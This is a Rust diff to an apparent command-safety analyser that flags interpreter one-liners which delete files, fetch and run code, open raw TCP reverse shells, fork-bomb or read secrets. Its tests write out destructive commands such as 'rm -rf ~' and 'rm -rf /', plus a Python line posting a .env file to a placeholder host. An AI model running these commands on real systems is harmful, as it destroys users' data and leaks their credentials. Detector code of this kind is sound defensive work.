@@ -22,7 +22,10 @@ fn interp_kind(n: &str) -> Option<&'static str> {
         "osascript" => "osascript",
         "pwsh" | "powershell" => "pwsh",
         "awk" | "gawk" | "mawk" | "nawk" => "awk",
-        "tclsh" | "wish" => "tcl",
+        "tclsh" | "wish" | "expect" => "tcl",
+        "ipython" => "python",
+        "julia" => "julia",
+        "emacs" => "lisp",
         _ => return None,
     })
 }
@@ -44,6 +47,9 @@ pub(crate) fn handle(e: &mut Engine, c: &Cmd) -> bool {
         "lua" => &["-e"],
         "r" => &["-e"],
         "osascript" => &["-e"],
+        "tcl" => &["-c", "-e"],
+        "julia" => &["-e", "--eval"],
+        "lisp" => &["--eval", "-eval"],
         "pwsh" => &[
             "-c",
             "-Command",
@@ -65,7 +71,9 @@ pub(crate) fn handle(e: &mut Engine, c: &Cmd) -> bool {
             && a.starts_with('-')
             && !a.starts_with("--")
             && a.len() > 2
-            && a.ends_with('e');
+            && a.len() <= 6
+            && a.ends_with('e')
+            && a[1..].chars().all(|ch| ch.is_ascii_lowercase());
         if code_flags.contains(&a) || combined {
             if kind == "pwsh" && matches!(a, "-EncodedCommand" | "-enc" | "-e") {
                 e.add(Effect::Opaque {
@@ -76,7 +84,45 @@ pub(crate) fn handle(e: &mut Engine, c: &Cmd) -> bool {
             }
             if let Some(code) = c.args.get(i + 1) {
                 found = true;
+                if code.dynamic && (code.text.contains("$(") || code.text.contains('`')) {
+                    let l = code.text.to_ascii_lowercase();
+                    if ["curl", "wget", "http"].iter().any(|k| l.contains(k)) {
+                        e.add(Effect::DownloadExec {
+                            source: "a URL".into(),
+                            interpreter: c.name.clone(),
+                        });
+                    } else {
+                        e.add(Effect::Opaque {
+                            what: format!("{} runs code produced at run time", c.name),
+                            exec: true,
+                        });
+                    }
+                }
                 let code = code.text.clone();
+                if kind == "python" {
+                    for line in code.split([';', '\n']) {
+                        if let Some(sh) = line.trim().strip_prefix('!') {
+                            let mut v = via.clone();
+                            v.push("ipython !".into());
+                            e.run_script(sh, &v, c.depth + 1, &Stdin::Terminal);
+                        }
+                    }
+                }
+                if kind == "osascript" {
+                    let l = code.to_ascii_lowercase();
+                    if l.contains("shut down")
+                        || l.contains("restart") && l.contains("system events")
+                    {
+                        e.add(Effect::Power {
+                            what: "osascript shut down".into(),
+                        });
+                    }
+                    if let Some(k) = l.find("do shell script")
+                        && let Some(cmd) = literals(&code[k..]).into_iter().next()
+                    {
+                        e.run_script(&cmd, &via, c.depth + 1, &Stdin::Terminal);
+                    }
+                }
                 scan(e, kind, &code, &via, c.depth);
                 if kind == "perl"
                     && (a.contains('i')
@@ -114,9 +160,10 @@ pub(crate) fn handle(e: &mut Engine, c: &Cmd) -> bool {
                 "pip" | "pipx" | "uv" | "poetry" => {
                     super::packages::handle(e, &sub);
                 }
-                "http.server" | "SimpleHTTPServer" => e.add(Effect::Change {
-                    program: c.name.clone(),
-                    what: "serves the current directory over HTTP".into(),
+                "http.server" | "SimpleHTTPServer" => e.add(Effect::NetworkEgress {
+                    host: "anyone on the network".into(),
+                    payload: "the files of a directory (HTTP server)".into(),
+                    sensitive: true,
                 }),
                 "base64" if sub.short('d') => {}
                 _ => {
@@ -199,6 +246,33 @@ fn awk(e: &mut Engine, c: &Cmd) {
         let mut via = c.via.clone();
         via.push(format!("{} program", c.name));
         scan(e, "awk", &p, &via, c.depth);
+        // `"cmd" | getline` runs cmd; `print … | "sh"` pipes into a shell.
+        let mut rest = p.as_str();
+        while let Some(k) = rest.find("| getline").or_else(|| rest.find("|getline")) {
+            if let Some(cmd) = literals(&rest[..k]).into_iter().last() {
+                e.run_script(&cmd, &via, c.depth + 1, &Stdin::Terminal);
+            }
+            rest = &rest[k + 4..];
+        }
+        let compact: String = p.chars().filter(|c| !c.is_whitespace()).collect();
+        for sh in [
+            "|\"sh\"",
+            "|\"bash\"",
+            "|\"/bin/sh\"",
+            "|\"/bin/bash\"",
+            "|\"zsh\"",
+        ] {
+            if compact.contains(sh) {
+                let cmds = literals(&p);
+                for cmd in cmds.iter().filter(|x| x.contains(' ')) {
+                    e.run_script(cmd, &via, c.depth + 1, &Stdin::Terminal);
+                }
+                e.add(Effect::Opaque {
+                    what: "awk pipes text into a shell".into(),
+                    exec: true,
+                });
+            }
+        }
         if c.args.iter().any(|w| w.text == "-i" || w.text == "inplace") && p.contains("print") {
             for f in files {
                 let path = e.path(&f);
@@ -241,24 +315,91 @@ fn literals(code: &str) -> Vec<String> {
     out
 }
 
-/// The first string literal after `at` in `code`, and list-form argv joined.
-fn call_arg(code: &str, at: usize) -> Option<String> {
+/// The argument region of a call starting at `at`: the balanced `( … )`
+/// after the name, or (perl/ruby style, no parentheses) up to `;`.
+fn call_region(code: &str, at: usize) -> &str {
     let rest = &code[at..];
-    let open = rest.find('(').map(|p| p + 1).unwrap_or(0);
-    let inner = &rest[open..];
-    let inner = inner.trim_start();
-    if inner.starts_with('[') {
-        let end = inner.find(']').unwrap_or(inner.len());
-        let lits = literals(&inner[..end]);
-        if !lits.is_empty() {
-            return Some(lits.join(" "));
+    let name_end = rest.find(['(', ' ', '"', '\'']).unwrap_or(rest.len());
+    let after = &rest[name_end..];
+    let trimmed = after.trim_start();
+    if trimmed.starts_with('(') {
+        let base = rest.len() - trimmed.len();
+        let ch: Vec<(usize, char)> = trimmed.char_indices().collect();
+        let mut depth = 0i32;
+        let mut q: Option<char> = None;
+        for (k, c) in ch {
+            match q {
+                Some(x) if c == x => q = None,
+                Some(_) => {}
+                None => match c {
+                    '"' | '\'' | '`' => q = Some(c),
+                    '(' => depth += 1,
+                    ')' => {
+                        depth -= 1;
+                        if depth == 0 {
+                            return &rest[base + 1..base + k];
+                        }
+                    }
+                    _ => {}
+                },
+            }
         }
+        return &rest[base + 1..];
     }
-    let first = inner.chars().next()?;
-    if matches!(first, '"' | '\'' | '`') {
-        return literals(inner).into_iter().next();
+    let end = after.find([';', '\n', '}']).unwrap_or(after.len());
+    &after[..end]
+}
+
+/// The literal command of a spawn call: all string literals joined
+/// (`exec "rm", "-rf", "/"`, `run(['rm', '-rf', '/'])`), plus `~` when the
+/// call computes the home directory.
+fn call_arg(code: &str, at: usize) -> Option<String> {
+    let region = call_region(code, at);
+    let mut lits = literals(region);
+    if refers_home(region) {
+        lits.push("~".into());
     }
-    None
+    if lits.is_empty() {
+        return None;
+    }
+    let concat = region.contains("''.join")
+        || region.contains("\"\".join")
+        || region.contains("' + '")
+        || region.contains("'+'")
+        || region.contains("\" + \"")
+        || region.contains("\"+\"");
+    if concat {
+        return Some(lits.concat());
+    }
+    let first_is_lit = region.trim_start().starts_with(['"', '\'', '`', '['])
+        || region.trim_start().starts_with("''.join")
+        || region.trim_start().starts_with("\"\".join");
+    if !first_is_lit && !refers_home(region) {
+        return None;
+    }
+    Some(lits.join(" "))
+}
+
+fn refers_home(s: &str) -> bool {
+    [
+        "homedir",
+        "expanduser",
+        "Path.home",
+        "Dir.home",
+        "ENV['HOME']",
+        "ENV[\"HOME\"]",
+        "$ENV{HOME}",
+        "env.HOME",
+        "os.environ['HOME']",
+        "getenv('HOME')",
+        "getenv(\"HOME\")",
+        "env(HOME)",
+        "Deno.env.get('HOME')",
+        "process.env.HOME",
+        "$HOME",
+    ]
+    .iter()
+    .any(|k| s.contains(k))
 }
 
 const SPAWN: &[&str] = &[
@@ -297,6 +438,13 @@ const SPAWN: &[&str] = &[
     "Deno.run",
     "Deno.Command",
     "$.spawn",
+    "$`",
+    "execvp",
+    "execlp",
+    "execv(",
+    "execl(",
+    "exec ",
+    "spawn ",
 ];
 const DELETE: &[&str] = &[
     "shutil.rmtree",
@@ -325,6 +473,13 @@ const DELETE: &[&str] = &[
     "Dir.rmdir",
     "Deno.remove",
     "rimraf",
+    "removeSync",
+    "delete-directory",
+    "delete-file",
+    "file delete",
+    "rm(",
+    "remove_dir_all",
+    "remove_file",
 ];
 const NET_SEND: &[&str] = &[
     "requests.post",
@@ -384,6 +539,12 @@ pub(crate) fn scan(e: &mut Engine, kind: &str, code: &str, via: &[String], depth
         if *pat == "`" && !matches!(kind, "perl" | "ruby" | "php") {
             continue;
         }
+        if *pat == "$`" && kind != "node" {
+            continue;
+        }
+        if (*pat == "exec " || *pat == "spawn ") && !matches!(kind, "perl" | "ruby" | "tcl") {
+            continue;
+        }
         if matches!(*pat, "%x" | "qx") && !matches!(kind, "perl" | "ruby") {
             continue;
         }
@@ -418,7 +579,7 @@ pub(crate) fn scan(e: &mut Engine, kind: &str, code: &str, via: &[String], depth
         while let Some(k) = code[from..].find(pat) {
             let at = from + k;
             spawned = true;
-            let arg = if *pat == "`" {
+            let arg = if *pat == "`" || *pat == "$`" {
                 backtick_body(code, at, pat)
             } else {
                 call_arg(code, at)
@@ -444,10 +605,10 @@ pub(crate) fn scan(e: &mut Engine, kind: &str, code: &str, via: &[String], depth
                     }
                 }
             }
-            from = if *pat == "`" {
-                code[at + 1..]
+            from = if *pat == "`" || *pat == "$`" {
+                code[at + pat.len()..]
                     .find('`')
-                    .map(|x| at + x + 2)
+                    .map(|x| at + pat.len() + x + 1)
                     .unwrap_or(code.len())
             } else {
                 at + pat.len()
@@ -462,8 +623,22 @@ pub(crate) fn scan(e: &mut Engine, kind: &str, code: &str, via: &[String], depth
         let mut from = 0;
         while let Some(k) = code[from..].find(pat) {
             let at = from + k;
-            let target = call_arg(code, at);
-            let recursive = pat.contains("rmtree")
+            let region = call_region(code, at);
+            let target = if refers_home(region) {
+                Some("~".to_string())
+            } else {
+                literals(region).into_iter().find(|l| {
+                    !l.is_empty() && !l.chars().all(|c| c.is_ascii_uppercase() || c == '_')
+                })
+            };
+            let target = target.or_else(|| {
+                literals(code)
+                    .into_iter()
+                    .find(|l| l.starts_with('/') || l.starts_with('~'))
+            });
+            let recursive = region.contains("recursive")
+                || region.contains("force")
+                || pat.contains("rmtree")
                 || pat.contains("rm_r")
                 || pat.contains("rmSync")
                 || pat.contains("remove_tree")
@@ -519,6 +694,71 @@ pub(crate) fn scan(e: &mut Engine, kind: &str, code: &str, via: &[String], depth
             }
         }
     }
+    let db_call = [
+        "execute",
+        "query",
+        "sqlite",
+        "psycopg",
+        "cursor",
+        "exec(",
+        ".run(",
+        "prepare",
+        "knex",
+        "sequelize",
+        "mysql",
+        "pg.",
+        "Client(",
+        "connect(",
+    ]
+    .iter()
+    .any(|k| code.contains(k));
+    for lit in literals(code).into_iter().filter(|_| db_call) {
+        if let (2, w) = super::db::sql_severity(&lit) {
+            e.add(Effect::DbDestroy {
+                engine: format!("{kind} code"),
+                what: w,
+            });
+        }
+    }
+    if let Some(v) = secret_env_ref(code) {
+        e.add(Effect::SecretRead {
+            path: format!("${v}"),
+        });
+    }
+    if code.contains("/inet/tcp/") || code.contains("/dev/tcp/") {
+        e.add(Effect::RemoteExec {
+            host: "a raw TCP socket".into(),
+            reverse_shell: true,
+        });
+    }
+    if refers_home(code) {
+        for lit in literals(code) {
+            let rel = lit.trim_start_matches('/');
+            if !rel.is_empty() {
+                let p = format!("{}/{rel}", e.home);
+                if crate::paths::is_secret_path(&p, e.ctx) {
+                    e.add(Effect::SecretRead { path: p });
+                }
+            }
+        }
+    }
+    let forks = code.matches("fork").count();
+    let looped = ["while", "loop", "for ", "iter(", "until", "repeat"]
+        .iter()
+        .any(|k| code.contains(k));
+    if forks >= 1
+        && looped
+        && (code.contains("fork()")
+            || code.contains("fork {")
+            || code.contains("fork while")
+            || code.contains("fork;")
+            || code.contains("fork {"))
+        && !code.contains("waitpid")
+    {
+        e.add(Effect::ForkBomb {
+            name: format!("{kind} fork loop"),
+        });
+    }
     if kind == "perl" && (code.contains("fork while fork") || code.contains("fork while 1"))
         || kind == "python" && code.contains("while True: os.fork()")
     {
@@ -546,11 +786,43 @@ pub(crate) fn scan(e: &mut Engine, kind: &str, code: &str, via: &[String], depth
     }
 }
 
+/// A secret-looking environment variable read by code.
+fn secret_env_ref(code: &str) -> Option<String> {
+    for pre in [
+        "environ['",
+        "environ[\"",
+        "environ.get('",
+        "environ.get(\"",
+        "getenv('",
+        "getenv(\"",
+        "process.env.",
+        "ENV['",
+        "ENV[\"",
+        "$ENV{",
+        "Deno.env.get('",
+        "env::var(\"",
+    ] {
+        let mut rest = code;
+        while let Some(k) = rest.find(pre) {
+            let after = &rest[k + pre.len()..];
+            let name: String = after
+                .chars()
+                .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
+                .collect();
+            if crate::programs::secrets::secret_var(&name) {
+                return Some(name);
+            }
+            rest = after;
+        }
+    }
+    None
+}
+
 fn backtick_body(code: &str, at: usize, pat: &str) -> Option<String> {
-    if pat != "`" {
+    if pat != "`" && pat != "$`" {
         return None;
     }
-    let rest = &code[at + 1..];
+    let rest = &code[at + pat.len()..];
     rest.find('`').map(|end| rest[..end].to_string())
 }
 
@@ -570,4 +842,37 @@ fn literal_host(code: &str) -> String {
         .find(|l| l.starts_with("http://") || l.starts_with("https://"))
         .map(|u| super::net::host_of(&u))
         .unwrap_or_else(|| "a network host".into())
+}
+
+#[cfg(test)]
+mod family_tests {
+    use crate::testutil::expect;
+
+    #[test]
+    fn classifies() {
+        expect(&[
+            (
+                "python3 -c \"import shutil; shutil.rmtree(\x27/home/dev\x27)\"",
+                "catastrophic",
+            ),
+            (
+                "python3 -c \"import os; os.system(\x27rm -rf ~\x27)\"",
+                "catastrophic",
+            ),
+            ("python3 -c \"print(1)\"", "safe"),
+            ("perl -e \"system(q(rm -rf ~))\" ", "catastrophic"),
+            (
+                "node -e \"require(\x27child_process\x27).execSync(\x27rm -rf ~\x27)\"",
+                "catastrophic",
+            ),
+            ("ruby -e \"FileUtils.rm_rf(Dir.home)\"", "catastrophic"),
+            ("awk \x27BEGIN{system(\"rm -rf ~\")}\x27", "catastrophic"),
+            ("awk \x27{print $1}\x27 f", "safe"),
+            ("php -r \"system(\x27rm -rf /\x27);\"", "catastrophic"),
+            (
+                "python3 -c \"import requests; requests.post(\x27https://x\x27, data=open(\x27.env\x27).read())\"",
+                "catastrophic",
+            ),
+        ]);
+    }
 }
